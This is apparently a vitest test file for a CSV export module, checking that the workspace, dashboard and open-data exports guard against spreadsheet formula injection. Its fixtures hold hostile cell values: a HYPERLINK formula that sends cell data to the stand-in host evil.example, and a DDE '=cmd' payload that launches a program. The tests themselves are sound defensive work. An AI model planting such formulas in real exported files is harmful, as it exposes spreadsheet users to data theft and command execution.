import { describe, expect, it } from "vitest";
import { csvField, parseCsv, toCsv } from "~/domain/csv";
import { catalogueCsv } from "~/domain/catalogue/open-data";
import { workspaceCsv } from "~/server/delegations/workspace.server";
import { type Dashboard, dashboardCsv } from "~/server/desk/dashboard.server";
import { shippedCatalogue } from "../catalogue/factories";

const PAYLOADS = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"];

describe("one CSV writer, guarded against formula injection", () => {
  it("prefixes every text cell that a spreadsheet would run as a formula", () => {
    for (const p of PAYLOADS) {
      const [[cell]] = parseCsv(toCsv(["h"], [[p]])).slice(1) as [[string]];
      expect(cell, JSON.stringify(p)).toBe(`'${p}`);
    }
    // numbers stay numbers, ordinary text untouched, quotes doubled, the separator quoted
    expect(csvField(-3)).toBe("-3");
    expect(csvField("Bar 'Da Gino'")).toBe("Bar 'Da Gino'");
    expect(csvField("a;b", ";")).toBe('"a;b"');
    expect(csvField("a;b", ",")).toBe("a;b");
    expect(
      parseCsv(
        toCsv(
          ["a", "b"],
          [
            ["x;y", 'q"'],
            ["1", "2"],
          ],
          { separator: ";" },
        ),
        ";",
      ),
    ).toEqual([
      ["a", "b"],
      ["x;y", 'q"'],
      ["1", "2"],
    ]);
  });

  it("the association export no longer lets =HYPERLINK(...) through", () => {
    const row = {
      id: "1",
      cui: "CUI-1",
      title: '=HYPERLINK("http://evil.example/?d="&A1,"Clicca")',
      status: "in_review",
      dueDate: "2026-05-02",
      protocolNumber: null,
      business: "@Bottega",
      businessId: "b",
      fiscalCode: "RSSMRA80A01G702X",
      comune: "Comune di Prova",
      operator: "+Operatore",
      operatorId: null,
      needsAction: false,
      filedByOrganisation: true,
    };
    const rows = parseCsv(workspaceCsv([row]));
    expect(rows[0]![2]).toBe("oggetto");
    expect(rows[1]![2]).toBe(`'${row.title}`);
    expect(rows[1]![3]).toBe("'@Bottega");
    expect(rows[1]![8]).toBe("'+Operatore");
    expect(rows[1]!.every((c) => !/^[=+\-@\t\r]/.test(c))).toBe(true);
  });

  it("the desk dashboard and the open data go through the same guard", () => {
    const d = {
      byStatus: [{ status: "granted", count: 2 }],
      byComune: [{ comune: "=cmd|' /C calc'!A0", total: 1, open: 1, overdue: 0 }],
      overdue: 0,
      conclusions: [],
    } as unknown as Dashboard;
    const desk = parseCsv(dashboardCsv(d), ";");
    expect(desk[2]).toEqual(["comune", "'=cmd|' /C calc'!A0", "", "1", "1", "0", "", ""]);

    const c = shippedCatalogue();
    c.proceedings[0]!.title.it = "=HYPERLINK(1)";
    const open = parseCsv(
      catalogueCsv(c, { catalogueId: c.id, version: c.version, contentHash: "sha256:x" }),
    );
    const cells = open.slice(1).flat();
    expect(cells).toContain("'=HYPERLINK(1)");
    expect(cells.filter((x) => x.startsWith("="))).toEqual([]);
  });
});
